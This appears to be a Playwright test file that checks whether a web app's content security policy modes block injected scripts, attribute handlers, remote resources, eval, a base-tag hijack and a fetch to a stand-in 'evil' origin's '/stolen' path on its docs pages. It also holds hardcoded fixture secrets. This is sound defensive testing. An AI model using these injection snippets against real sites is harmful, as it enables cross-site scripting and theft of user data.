/** What the content policies keep from happening, in a real browser on the docs pages. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Page } from 'playwright-core';
import { harness } from '../harness.ts';
import { openBrowser, openSite } from './browser.ts';

const { open } = await openBrowser();
const evil = await openSite('globalThis.taken = true;', 'text/javascript');

type Seen = typeof globalThis & { taken: boolean; refused: string[] };

/** Notes what the policy refuses from now on. */
const watch = (page: Page) =>
  page.evaluate(() => {
    const seen = globalThis as Seen;
    if (!seen.refused) {
      addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
        seen.refused.push(effectiveDirective);
      });
    }
    seen.refused = [];
    seen.taken = false;
  });

/** What came of an attack, once something did. */
async function outcome(page: Page, name: string) {
  for (const until = Date.now() + 60_000; ; await sleep(20)) {
    const { refused, taken } = await page.evaluate(() => {
      const { refused, taken } = globalThis as Seen;
      return { refused, taken };
    });
    const asked = [...evil.asked];
    if (refused.length > 0 || taken || asked.length > 0) return { refused, taken, asked };
    assert.ok(Date.now() < until, `nothing comes of ${name}`);
  }
}

/** What somebody would do who got some markup or a script on to the page. */
const attacks = {
  'an inline script': () => {
    const script = document.createElement('script');
    script.textContent = 'globalThis.taken = true';
    document.body.append(script);
  },
  'a handler in an attribute': () => {
    const button = document.createElement('button');
    button.setAttribute('onclick', 'globalThis.taken = true');
    button.click();
  },
  'a script from elsewhere': (elsewhere) => {
    const script = document.createElement('script');
    script.src = `${elsewhere}/evil.js`;
    document.body.append(script);
  },
  // Later, since what the debugger evaluates may do so.
  'text that becomes a script': () => {
    setTimeout(() => new Function('globalThis.taken = true')());
  },
  'a request to elsewhere': (elsewhere) => {
    fetch(`${elsewhere}/stolen`, { mode: 'no-cors' }).then(
      () => {
        (globalThis as Seen).taken = true;
      },
      () => {},
    );
  },
  'a picture from elsewhere': (elsewhere) => {
    const image = new Image();
    image.src = `${elsewhere}/stolen.png`;
    document.body.append(image);
  },
  'a style from elsewhere': (elsewhere) => {
    const link = document.createElement('link');
    link.rel = 'stylesheet';
    link.href = `${elsewhere}/style.css`;
    document.head.append(link);
  },
  'another base': (elsewhere) => {
    const base = document.createElement('base');
    base.href = `${elsewhere}/`;
    document.head.append(base);
    const script = document.createElement('script');
    script.src = 'evil.js';
    document.body.append(script);
  },
} satisfies Record<string, (elsewhere: string) => void>;

/** What each policy refuses; what it does not name, it lets happen. */
const refusals: Record<string, Record<string, string>> = {
  strict: {
    'an inline script': 'script-src-elem',
    'a handler in an attribute': 'script-src-attr',
    'a script from elsewhere': 'script-src-elem',
    'text that becomes a script': 'script-src',
    'a request to elsewhere': 'connect-src',
    'a picture from elsewhere': 'img-src',
    'a style from elsewhere': 'style-src-elem',
    'another base': 'base-uri',
  },
  relaxed: {
    'a script from elsewhere': 'script-src-elem',
    'text that becomes a script': 'script-src',
    'a request to elsewhere': 'connect-src',
    'a picture from elsewhere': 'img-src',
    'a style from elsewhere': 'style-src-elem',
    'another base': 'base-uri',
  },
  disabled: {},
};

async function serve(env: Record<string, string>) {
  const { app } = await harness({ env });
  return app.listen({ host: '127.0.0.1', port: 0 });
}
const served = Object.entries(refusals).map(
  async ([mode, refused]) => [mode, refused, await serve({ CSP_MODE: mode })] as const,
);

for (const [mode, refused, origin] of await Promise.all(served)) {
  for (const path of ['/docs', '/redoc']) {
    const promise = Object.keys(refused).length > 0 ? 'is refused what the policy says' : 'is open';
    test(`under ${mode}, whoever injects something into ${path} ${promise}`, async () => {
      const { page } = await open(origin + path);
      await page.locator('h1, h2').first().waitFor();
      for (const [name, attack] of Object.entries(attacks)) {
        await watch(page);
        evil.asked.length = 0;
        await page.evaluate(attack as (elsewhere: string) => void, evil.origin);
        const directive = refused[name];
        const found = await outcome(page, name);
        if (directive)
          assert.deepEqual(found, { refused: [directive], taken: false, asked: [] }, name);
        else assert.ok(found.taken || found.asked.length > 0, `${name} does not happen`);
      }
      await page.close();
    });
  }

  test(`under ${mode}, another origin shows neither page in a frame`, async () => {
    for (const path of ['/docs', '/redoc']) {
      const site = await openSite(`<!doctype html><iframe src="${origin}${path}"></iframe>`);
      const { page } = await open(site.origin);
      assert.equal(page.frames()[1]?.url(), 'chrome-error://chromewebdata/');
      await page.close();
    }
  });

  const isFramed = mode === 'relaxed';
  test(`under ${mode}, a page of its own ${isFramed ? 'shows' : 'does not show'} the docs`, async () => {
    const { page } = await open(`${origin}/health`);
    await page.evaluate(() => {
      const frame = document.createElement('iframe');
      frame.src = '/redoc';
      const loaded = new Promise((resolve) => frame.addEventListener('load', resolve));
      document.body.append(frame);
      return loaded;
    });
    const title = await page.frames()[1]?.title();
    assert.equal(/API reference/.test(title ?? ''), isFramed);
    await page.close();
  });
}

test('only production tells the browser to come by TLS', async () => {
  const production = {
    ENVIRONMENT: 'production',
    SECRET_KEY: 'b1946ac92492d2347c6235b4d2611184',
    FIRST_SUPERUSER_PASSWORD: 'Hm2-pqw-71x',
  };
  const told = async (env: Record<string, string>) => {
    const origin = await serve(env);
    const { page } = await open(origin);
    const answer = await page.goto(`${origin}/docs`);
    await page.close();
    return answer?.headers()['strict-transport-security'];
  };
  assert.equal(await told({}), undefined);
  assert.match((await told(production)) ?? '', /^max-age=\d{7,}; includeSubDomains$/);
});
